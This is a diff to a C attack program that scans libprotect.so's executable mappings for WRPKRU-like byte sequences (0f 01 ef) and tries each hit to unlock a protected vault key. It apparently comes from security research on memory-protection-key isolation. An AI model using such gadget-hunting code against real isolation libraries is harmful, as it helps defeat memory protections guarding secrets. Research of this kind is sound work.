@@ -3,6 +3,7 @@
  * the library's key open? */
 #define _GNU_SOURCE
 #include "attack.h"
+#include "libprotect_symbols.h"
 
 
 static struct vault_cell *cell;
@@ -27,15 +28,12 @@ int main(void)
 {
     vault_open();
     cell = vault_address(VAULT_DATA);
-    FILE *maps = fopen("/proc/self/maps", "r");
-    char line[512];
-    int sites = 0, opened = 0;
-    while (maps && fgets(line, sizeof line, maps)) {
-        unsigned long lo, hi;
-        char perms[5];
-        if (!strstr(line, "libprotect.so") || sscanf(line, "%lx-%lx %4s", &lo, &hi, perms) != 3 || perms[2] != 'x')
+    struct mapping m[32];
+    int n = libprotect_mappings(m, 32), sites = 0, opened = 0;
+    for (int i = 0; i < n; i++) {
+        if (m[i].perms[2] != 'x')
             continue;
-        for (const uint8_t *p = (const uint8_t *)lo; p + 3 <= (const uint8_t *)hi; p++)
+        for (const uint8_t *p = (const uint8_t *)m[i].lo; p + 3 <= (const uint8_t *)m[i].hi; p++)
             if (p[0] == 0x0f && p[1] == 0x01 && p[2] == 0xef) {
                 sites++;
                 opened += try_site(p);
